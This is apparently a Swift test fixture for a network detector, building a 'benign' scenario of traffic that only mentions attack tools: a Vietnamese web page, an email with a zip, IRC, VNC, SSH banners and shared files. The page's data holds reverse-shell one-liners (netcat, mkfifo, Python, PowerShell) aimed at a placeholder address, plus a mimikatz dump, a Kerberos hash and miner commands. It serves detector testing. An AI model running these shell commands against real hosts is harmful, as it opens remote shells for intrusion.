import TestSupport

extension Scenario {
    /// What people write about these tools, and the harmless neighbours of what these send.
    static var nearTools: Scenario {
        var story = Story(port: 47060)
        story.web(
            "198.51.100.53", "203.0.113.11",
            asks: Text.request("GET", "/huong-dan?q=sqlmap+nikto+netcat", host: "hoctap.example"),
            gets: Text.response(nearPage.joined(separator: "\n")))
        story.talk("198.51.100.70", "198.51.100.25", 25) { $0.submit(nearLetter) }
        nearProtocols(&story)
        nearFiles(&story)
        return Scenario("benign/near-words-tools", story.frames)
    }

    /// A page about tools and malware, as it is written in HTML.
    private static var nearPage: [String] {
        [
            "<h1>Công cụ của kẻ tấn công</h1>", "<pre>python3 -c 'import socket,os;s=socket.socket();",
            "s.connect((&quot;192.0.2.1&quot;,4444));os.dup2(s.fileno(),0)'",
            "mkfifo /tmp/f;cat /tmp/f|sh -i 2&gt;&amp;1|nc 192.0.2.1 4444", "nc -e /bin/sh 192.0.2.1 4444",
            "$c = New-Object Net.Sockets.TCPClient('192.0.2.1',4444); iex $d 2&gt;&amp;1 | Out-String",
            "User-Agent: sqlmap/1.7", "User-Agent: Mozilla/5.0 (Hydra)", "User-Agent: friendly-scanner",
            "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak", "/bin/busybox MIRAI", "MIRAI: applet not found",
            "mimikatz # sekurlsa::logonpasswords", "* Username : canbo", "* Domain   : TINH",
            "* NTLM     : (đã xóa)", "$krb5tgs$23$*ten$MIEN$dich-vu*$(đã xóa)",
            #"cmd.exe /Q /c dir 1&gt; \\127.0.0.1\ADMIN$\__1600000000.1 2&gt;&amp;1"#,
            #"{"id":1,"method":"mining.subscribe","params":[]}"#, #"{"id":1,"result":[],"error":null}"#,
            #"{"id":2,"method":"mining.authorize","params":["ten","x"]}"#,
            #"{"donate-level": 1, "pools": [{"url": "pool.example:3333", "user": "YOUR_WALLET"}]}"#,
            #"{"privilege_key":"...","timestamp":0}"#, "RFB 003.008", "Sec-WebSocket-Protocol: chat",
            "PSEXESVC.exe, mssecsvc.exe, tasksche.exe, iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea", "</pre>",
            "<p>Sâu WannaCry báo: your files have been encrypted. Người bị hại thấy dữ liệu của mình đã bị mã "
                + "hóa và một địa chỉ .onion để trả tiền.</p>", "<p>Georg says, 'All seems fine'</p>",
            "<p>CreateObject(\"WScript.Shell\").Run mở một chương trình; Document_Open tự chạy.</p>",
        ]
    }

    /// A letter with an archive of documents, whose names have dots in them.
    private static var nearLetter: String {
        var zip = ZipBytes()
        zip.add("bao-cao.pdf", Array("%PDF-1.4 dien tap".utf8))
        zip.add("cai-dat.exe.huong-dan.pdf", Array("%PDF-1.4 UPX0 UPX1 dien tap".utf8))
        zip.add("word/document.xml", Array("<w:t>word/vbaProject.bin</w:t>".utf8))
        return ObjectRoad.letter("ho-so.v2.zip", "application/zip", zip.bytes)
    }

    /// Ordinary words of protocols that tools misuse.
    private static func nearProtocols(_ story: inout Story) {
        story.talk("198.51.100.54", "198.51.100.80", 5900) { talk in
            talk.server(sends: "RFB 003.008\n")
            talk.client(sends: "RFB 003.008\n")
            talk.server(sends: [2, 2, 16])
        }
        story.talk("198.51.100.55", "203.0.113.12", 6667) { talk in
            talk.client(sends: "NICK canbo\r\nUSER canbo 0 * :Can bo\r\n")
            talk.server(sends: ":ban!b@203.0.113.12 PRIVMSG #lop :udpflood là gì? xem !help download\r\n")
        }
        story.web(
            "198.51.100.56", "198.51.100.10",
            asks: Text.request(
                "GET", "/tra-cuu?q=python+socket+connect&cmd=connect&target=may-in", host: "tinh.example"))
        story.talk("198.51.100.57", "198.51.100.22", 22) { talk in
            talk.server(sends: "SSH-2.0-OpenSSH_9.2p1 drill\r\n")
            talk.client(sends: "SSH-2.0-PuTTY_Release_0.78\r\n")
        }
    }

    /// Files whose names or contents lie near those of tools.
    private static func nearFiles(_ story: inout Story) {
        func read(_ name: String, _ bytes: [UInt8]) {
            story.share("198.51.100.58", #"\\tep.example\chung"#) { share in
                share.open(name, size: bytes.count)
                share.read(bytes, at: 0)
            }
        }
        read("Huong dan giai ma tep.docx", Array("Cach dung chuc nang ma hoa cua phan mem.".utf8))
        read("PsExec.exe", Payload.program([".text", ".data"], strings: ["mssec" + "svc.exe", "UPX!"]))
        read("Tai lieu.lnk", Payload.shortcut("winword.exe", #"\\tep.example\chung\bao-cao.docx"#))
        read("Bao cao.doc", Payload.macroProject(["Sub TinhTong()", "Tong = Tong + 1"]))
        read("ung-dung.dmp", Payload.minidump(modules: ["ntdll.dll", "ung-dung.exe"]))
        read("phan-mem.hiv", Payload.registry(keys: ["Microsoft", "Windows", "CurrentVersion"]))
    }
}
